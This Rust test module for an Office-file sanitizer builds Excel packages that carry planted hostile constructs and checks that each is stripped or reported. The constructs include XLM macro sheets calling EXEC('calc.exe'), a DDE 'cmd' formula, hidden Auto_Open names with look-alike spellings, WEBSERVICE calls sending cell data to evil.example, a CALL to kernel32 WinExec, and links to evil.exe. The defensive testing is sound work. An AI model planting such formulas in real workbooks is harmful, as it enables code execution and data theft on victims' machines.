//! The danger matrix: Excel sheets, names and formulas (OOX-X01 to X04, X07, X10).

use super::excel::{BOOK, NS, SHEET, cell, two_sheets, workbook};
use super::package::{AV, KEPT, Package};
use crate::Planted;
use crate::matrix::{Case, Expect, Shape};

/// A package as a file, with what must be gone from it and what must be left beside the usual text.
pub(super) fn file(name: &str, package: &Package, gone: &[&str], kept: &[&str]) -> Planted {
    let bytes = |list: &[&str]| list.iter().map(|g| g.as_bytes().to_vec()).collect::<Vec<_>>();
    Planted {
        name: name.to_owned(),
        bytes: package.zip(),
        gone: bytes(gone),
        kept: [bytes(kept), bytes(&[KEPT])].concat(),
    }
}

macro_rules! case {
    ($id:literal, $shape:ident, $what:literal, $expect:expr, $name:literal, $package:expr, [$($gone:expr),*], [$($kept:expr),*]) => {
        Case { id: $id, shape: Shape::$shape, what: $what, expect: $expect, plant: || file($name, &$package, &[$($gone),*], &[$($kept),*]) }
    };
}
pub(super) use case;

const MACRO_SHEET: &str = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
const INTERNATIONAL: &str = "http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet";
const MACROS: &str = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><row><c><f>EXEC(\"calc.exe\")</f></c></row></sheetData></xm:macrosheet>";
const DIALOG: &str = "<dialogsheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetPr codeName=\"EvilDialog\"/></dialogsheet>";

/// A workbook with a link to another one, as every file with such a formula has it.
fn linked(names: &str, rows: &str, tail: &str) -> Package {
    workbook(&format!("<externalReferences><externalReference r:id=\"rIdE\"/></externalReferences>{names}"), rows, tail)
        .rel(BOOK, "rIdE", "externalLink", "externalLinks/externalLink1.xml")
        .part("xl/externalLinks/externalLink1.xml", &format!("{AV}spreadsheetml.externalLink+xml"), format!("<externalLink {NS}><externalBook r:id=\"rId1\"><sheetNames><sheetName val=\"S\"/></sheetNames></externalBook></externalLink>"))
        .external("xl/externalLinks/externalLink1.xml", "rId1", "externalLinkPath", "file:///\\\\evil.example\\b.xlsx")
}

fn second_sheet(state: &str) -> Package {
    two_sheets("worksheet", "worksheets/sheet2.xml", &format!("{AV}spreadsheetml.worksheet+xml"), &format!("<worksheet {NS}><sheetData><row r=\"1\"><c r=\"A1\"><v>41</v></c></row></sheetData></worksheet>"))
        .part(BOOK, &format!("{AV}spreadsheetml.sheet.main+xml"), format!("<workbook {NS}><sheets><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Macro1\" sheetId=\"2\"{state} r:id=\"rId2\"/></sheets></workbook>"))
}

/// The cases.
pub(super) fn cases() -> Vec<Case> {
    [sheets(), names(), books(), formulas(), links()].concat()
}

fn sheets() -> Vec<Case> {
    use Expect::{Reported, Without};
    vec![
        case!("OOX-X01", Plain, "a macro sheet becomes an empty sheet of its name", Reported("office.macro-sheet"), "xlm.xlsx",
            two_sheets(MACRO_SHEET, "macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", MACROS),
            ["calc.exe", "macrosheet", "EXEC"], ["name=\"残る名前\" sheetId=\"2\"", "relationships/worksheet\" Target=\"worksheets/sheet2.xml\""]),
        case!("OOX-X01", Disguised, "an international macro sheet, used by a cell", Reported("office.macro-sheet"), "xlm2.xlsx",
            two_sheets(INTERNATIONAL, "macrosheets/intlsheet1.xml", "application/vnd.ms-excel.intlmacrosheet+xml", MACROS)
                .part(SHEET, &format!("{AV}spreadsheetml.worksheet+xml"), format!("<worksheet {NS}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{KEPT}</t></is></c><c r=\"B1\"><f>残る名前!A1+1</f><v>7</v></c></row></sheetData></worksheet>")),
            ["calc.exe", "macrosheet", "<f>"], ["<v>7</v>"]),
        case!("OOX-X01", Disguised, "said to be a worksheet, under another prefix", Reported("office.macro-sheet"), "xlm3.xlsx",
            two_sheets("worksheet", "worksheets/sheet2.xml", &format!("{AV}spreadsheetml.worksheet+xml"), &MACROS.replace("xm:", "z:").replace("xmlns:xm", "xmlns:z")),
            ["calc.exe", "macrosheet"], ["name=\"残る名前\""]),
        case!("OOX-X01", Neighbour, "a worksheet called Macro1, and a formula that names it", Expect::Untouched, "macro1.xlsx",
            second_sheet("").part(SHEET, &format!("{AV}spreadsheetml.worksheet+xml"), format!("<worksheet {NS}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{KEPT}</t></is></c><c r=\"B1\"><f>Macro1!A1+1</f><v>42</v></c></row></sheetData></worksheet>")),
            [], ["<f>Macro1!A1+1</f><v>42</v>", "<v>41</v>"]),
        case!("OOX-X02", Plain, "a dialog sheet becomes an empty sheet of its name", Reported("office.dialog-sheet"), "dialog.xlsx",
            two_sheets("dialogsheet", "dialogsheets/sheet1.xml", &format!("{AV}spreadsheetml.dialogsheet+xml"), DIALOG), ["dialogsheet", "EvilDialog"], ["name=\"残る名前\""]),
        case!("OOX-X02", Disguised, "said to be a worksheet", Reported("office.dialog-sheet"), "dialog2.xlsx",
            two_sheets("worksheet", "worksheets/sheet2.xml", &format!("{AV}spreadsheetml.worksheet+xml"), DIALOG), ["dialogsheet", "EvilDialog"], ["name=\"残る名前\""]),
        case!("OOX-X02", Neighbour, "a chart sheet stays", Without("office.dialog-sheet"), "chartsheet.xlsx",
            two_sheets("chartsheet", "chartsheets/sheet1.xml", &format!("{AV}spreadsheetml.chartsheet+xml"), &format!("<chartsheet {NS}><sheetViews><sheetView workbookViewId=\"0\" zoomScale=\"77\"/></sheetViews></chartsheet>")), [], ["zoomScale=\"77\"", "name=\"残る名前\""]),
    ]
}

fn names() -> Vec<Case> {
    use Expect::Reported;
    vec![
        case!("OOX-X03", Plain, "a name that runs on opening", Reported("office.defined-name"), "auto.xlsx",
            workbook("<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">集計!$A$1</definedName></definedNames>", "", ""), ["Auto_Open", "definedNames"], []),
        case!("OOX-X03", Disguised, "full-width letters, a look-alike, a suffix", Reported("office.defined-name"), "auto2.xlsx",
            workbook("<definedNames><definedName name=\"Ａｕｔｏ＿Ｏｐｅｎ\">集計!$A$1</definedName><definedName name=\"AUTO_CLOSEx7\">集計!$A$1</definedName><definedName name=\"Аuto_Activate\">集計!$A$1</definedName></definedNames>", "", ""), ["definedName"], []),
        case!("OOX-X03", Disguised, "a chain of names that ends at a macro sheet; the cell keeps its value", Reported("office.defined-name"), "chain.xlsx",
            two_sheets(MACRO_SHEET, "macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", MACROS)
                .part(BOOK, &format!("{AV}spreadsheetml.sheet.main+xml"), format!("<workbook {NS}><sheets><sheet name=\"集計\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"残る名前\" sheetId=\"2\" r:id=\"rId2\"/></sheets><definedNames><definedName name=\"a\">b+1</definedName><definedName name=\"b\">残る名前!$A$1</definedName><definedName name=\"別の\">集計!$A$1</definedName></definedNames></workbook>"))
                .part(SHEET, &format!("{AV}spreadsheetml.worksheet+xml"), format!("<worksheet {NS}><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{KEPT}</t></is></c><c r=\"B1\"><f>A*2</f><v>84</v></c></row></sheetData></worksheet>")),
            ["<f>", "name=\"a\"", "name=\"b\""], ["<v>84</v>", "<definedName name=\"別の\">集計!$A$1</definedName>"]),
        case!("OOX-X03", Neighbour, "print areas, titles, filters, ordinary names and functions of one's own", Expect::Untouched, "names.xlsx",
            workbook("<definedNames><definedName name=\"_xlnm._FilterDatabase\" localSheetId=\"0\" hidden=\"1\">集計!$A$1:$B$9</definedName><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">集計!$A$1:$D$20</definedName><definedName name=\"_xlnm.Print_Titles\" localSheetId=\"0\">集計!$1:$2</definedName><definedName name=\"_xlnm.Criteria\" localSheetId=\"0\">集計!$A$1</definedName><definedName name=\"自動_開く\" comment=\"説明\">集計!$B$2</definedName><definedName name=\"税込\">_xlfn.LAMBDA(_xlpm.x,_xlpm.x*1.1)</definedName></definedNames>", "<row r=\"2\"><c r=\"A2\"><f>税込(B2)+自動_開く</f><v>11</v></c></row>", ""),
            [], ["_xlnm._FilterDatabase", "集計!$A$1:$D$20", "_xlnm.Print_Titles", "_xlnm.Criteria", "comment=\"説明\"", "LAMBDA(_xlpm.x,_xlpm.x*1.1)", "<f>税込(B2)+自動_開く</f>"]),
    ]
}

fn books() -> Vec<Case> {
    use Expect::{Reported, Untouched};
    vec![
        case!("OOX-X04", Plain, "another workbook", Reported("office.external-book"), "book.xlsx", linked("", &cell("[1]Sheet1!A1+1"), ""), ["[1]Sheet1", "externalLink", "externalReference", "evil.example"], ["残る値"]),
        case!("OOX-X04", Plain, "another program", Reported("office.dde"), "dde.xlsx", workbook("", &cell("cmd|'/c calc.exe'!A0"), ""), ["calc.exe", "cmd|"], ["残る値"]),
        case!("OOX-X04", Disguised, "by its path, in a shared formula and its children", Reported("office.external-book"), "shared.xlsx",
            workbook("", "<row r=\"2\"><c r=\"A2\"><f t=\"shared\" ref=\"A2:A3\" si=\"0\">'\\\\evil.example\\[b.xlsx]S'!A1</f><v>21</v></c><c r=\"B2\"><f t=\"shared\" ref=\"B2:B3\" si=\"1\">A2*2</f><v>42</v></c></row><row r=\"3\"><c r=\"A3\"><f t=\"shared\" si=\"0\"/><v>22</v></c><c r=\"B3\"><f t=\"shared\" si=\"1\"/><v>44</v></c></row>", ""),
            ["evil.example", "si=\"0\""], ["<v>21</v>", "<v>22</v>", "<f t=\"shared\" ref=\"B2:B3\" si=\"1\">A2*2</f><v>42</v>", "<f t=\"shared\" si=\"1\"/><v>44</v>"]),
        case!("OOX-X04", Disguised, "in a name, a rule, a validation, a sparkline, a table, an array, a data table", Reported("office.external-book"), "places.xlsx",
            linked("<definedNames><definedName name=\"x\">[1]S!$A$1</definedName></definedNames>", "<row r=\"2\"><c r=\"A2\" cm=\"1\"><f t=\"array\" ref=\"A2:A3\">[1]S!A1:A2</f><v>31</v></c><c r=\"B2\"><f t=\"dataTable\" ref=\"B2:B3\" dt2D=\"0\" dtr=\"0\" r1=\"[1]S!C1\"/><v>32</v></c></row>",
                "<conditionalFormatting sqref=\"A1\"><cfRule type=\"cellIs\" operator=\"equal\" priority=\"1\"><formula>[1]S!$A$1</formula></cfRule></conditionalFormatting><dataValidations count=\"2\"><dataValidation type=\"list\" sqref=\"A1\"><formula1>[1]S!$A$1:$A$9</formula1></dataValidation><dataValidation type=\"whole\" sqref=\"B1\"><formula1>1</formula1><formula2>9</formula2></dataValidation></dataValidations><extLst><ext uri=\"{78C0D931-6437-407d-A8EE-F0AAD7539E65}\"><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\" id=\"{1}\" priority=\"2\"><xm:f>[1]S!$A$1</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext><ext uri=\"{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}\"><x14:dataValidations count=\"1\"><x14:dataValidation type=\"list\"><x14:formula1><xm:f>[1]S!$A$1:$A$9</xm:f></x14:formula1><xm:sqref>C1</xm:sqref></x14:dataValidation></x14:dataValidations></ext><ext uri=\"{05C60535-1F16-4fd2-B633-F4F36F0B64E0}\"><x14:sparklineGroups><x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>[1]S!A1:A9</xm:f><xm:sqref>D1</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>"),
            ["[1]", "cfRule", "x14:", "extLst", "cm=", "<f>", "<f t"], ["<v>31</v>", "<v>32</v>", "<dataValidations count=\"1\"><dataValidation type=\"whole\" sqref=\"B1\"><formula1>1</formula1><formula2>9</formula2></dataValidation></dataValidations>"]),
        case!("OOX-X04", Disguised, "consolidated from another workbook", Reported("office.external-book"), "consolidate.xlsx",
            workbook("", "", "<dataConsolidate><dataRefs count=\"2\"><dataRef ref=\"A1:B2\" sheet=\"S\" r:id=\"rIdE\"/><dataRef ref=\"A1:B2\" sheet=\"集計\"/></dataRefs></dataConsolidate>").external(SHEET, "rIdE", "externalLinkPath", "file:///evil.xlsx"),
            ["evil.xlsx", "sheet=\"S\""], ["<dataRefs count=\"1\"><dataRef ref=\"A1:B2\" sheet=\"集計\"/></dataRefs>"]),
        case!("OOX-X04", Neighbour, "brackets that are none: columns of a table, formats, texts, this book itself, both sides of a dialog", Untouched, "inside.xlsx",
            workbook("<definedNames><definedName name=\"全社\">[0]!集計</definedName></definedNames>", "<row r=\"2\"><c r=\"A2\"><f>SUM(表1[[#All],[売上]])+SUM(表1[[#This Row],[4月]:[6月]])</f><v>1</v></c><c r=\"B2\"><f>TEXT(A2,\"[$-411]ggge年\")&amp;\"[1]Sheet1!A1|x\"</f><v>2</v></c><c r=\"C2\"><f>'R6(2024)'!A1+'a b'!B1</f><v>3</v></c></row>", ""),
            [], ["<f>SUM(表1[[#All],[売上]])+SUM(表1[[#This Row],[4月]:[6月]])</f>", "[$-411]ggge年", "[1]Sheet1!A1|x", "'R6(2024)'!A1", "[0]!集計"]),
    ]
}

fn formulas() -> Vec<Case> {
    use Expect::{Reported, Untouched};
    vec![
        case!("OOX-X07", Plain, "a function that asks the web", Reported("office.formula"), "web.xlsx", workbook("", &cell("_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)"), ""), ["evil.example", "WEBSERVICE"], ["残る値"]),
        case!("OOX-X07", Disguised, "case, blanks, a prefix, an at-sign", Reported("office.formula"), "web2.xlsx", workbook("", &cell("1+@_XLFN.webService \n(&quot;http://evil.example/&quot;)"), ""), ["evil.example"], ["残る値"]),
        case!("OOX-X07", Disguised, "handed to another function without a call", Reported("office.formula"), "eta.xlsx", workbook("", &cell("_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)"), ""), ["WEBSERVICE"], ["残る値"]),
        case!("OOX-X07", Disguised, "in a rule, a name and an add-in of somebody's", Reported("office.formula"), "call.xlsx", workbook("<definedNames><definedName name=\"q\">_xll.Evil(1)</definedName></definedNames>", &cell("MyAddIn.xla.Evil(1)"), "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>IF(TRUE,cAlL (\"kernel32\",\"WinExec\"),0)</formula></cfRule></conditionalFormatting>"), ["kernel32", "conditionalFormatting", "Evil", "definedName"], ["残る値"]),
        case!("OOX-X07", Neighbour, "every-day, new and Japanese functions", Untouched, "functions.xlsx",
            workbook("", "<row r=\"2\"><c r=\"A2\"><f>PHONETIC(A1)&amp;JIS(B1)&amp;ASC(C1)&amp;YEN(D1)&amp;NUMBERSTRING(E1,1)&amp;DATESTRING(F1)</f><v>1</v></c><c r=\"B2\" cm=\"1\"><f t=\"array\" ref=\"B2\">_xlfn._xlws.SORT(_xlfn.UNIQUE(_xlfn._xlws.FILTER(A:A,B:B=1)))</f><v>2</v></c><c r=\"C2\"><f>_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(2))</f><v>3</v></c><c r=\"D2\"><f>_xlfn.GROUPBY(A1:A9,B1:B9,_xleta.SUM)</f><v>4</v></c><c r=\"E2\"><f>INDIRECT(\"WEBSERVICE(\"&amp;'Image (2)'!A1)</f><v>5</v></c></row>", "")
                .rel(BOOK, "rIdM", "sheetMetadata", "metadata.xml").part("xl/metadata.xml", &format!("{AV}spreadsheetml.sheetMetadata+xml"), super::cases_excel_data::DYNAMIC),
            [], ["NUMBERSTRING(E1,1)&amp;DATESTRING(F1)</f>", "cm=\"1\"", "_xlfn._xlws.SORT(_xlfn.UNIQUE(", "_xlpm.f(2)", "_xleta.SUM", "INDIRECT("]),
    ]
}

fn links() -> Vec<Case> {
    use Expect::{Reported, Untouched};
    vec![
        case!("OOX-X10", Plain, "a cell that starts a file", Reported("office.link"), "link.xlsx", workbook("", "", "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rIdL\"/></hyperlinks>").external(SHEET, "rIdL", "hyperlink", "file:///c:/evil.exe"), ["hyperlink", "evil.exe"], []),
        case!("OOX-X10", Disguised, "a path where a place should be", Reported("office.link"), "place.xlsx", workbook("", "", "<hyperlinks><hyperlink ref=\"A1\" location=\"'\\\\evil.example\\[b.xlsx]S'!A1\" display=\"x\"/></hyperlinks>"), ["hyperlink", "evil.example"], []),
        case!("OOX-X10", Disguised, "a formula that puts the address together", Reported("office.link"), "formula.xlsx", workbook("", &cell("_xlfn.HYPERLINK(&quot;fi&quot;&amp;&quot;le:///c:/evil.exe&quot;,&quot;x&quot;)"), ""), ["evil.exe"], ["残る値"]),
        case!("OOX-X10", Neighbour, "places of this book and addresses of the web", Untouched, "links.xlsx",
            workbook("", "<row r=\"2\"><c r=\"A2\"><f>HYPERLINK(\"#'年 度'!A1\",\"移動\")</f><v>1</v></c><c r=\"B2\"><f>HYPERLINK(\"https://www.example.jp/\",A1)</f><v>2</v></c></row>", "<hyperlinks><hyperlink ref=\"A1\" location=\"集計!A1\" display=\"集計!A1\" tooltip=\"先頭へ\"/><hyperlink ref=\"B1\" r:id=\"rIdL\"/></hyperlinks>").external(SHEET, "rIdL", "hyperlink", "https://www.example.jp/a?b=c"),
            [], ["<hyperlink ref=\"A1\" location=\"集計!A1\" display=\"集計!A1\" tooltip=\"先頭へ\"/>", "https://www.example.jp/a?b=c", "HYPERLINK(\"#'年 度'!A1\"", "HYPERLINK(\"https://www.example.jp/\",A1)"]),
    ]
}
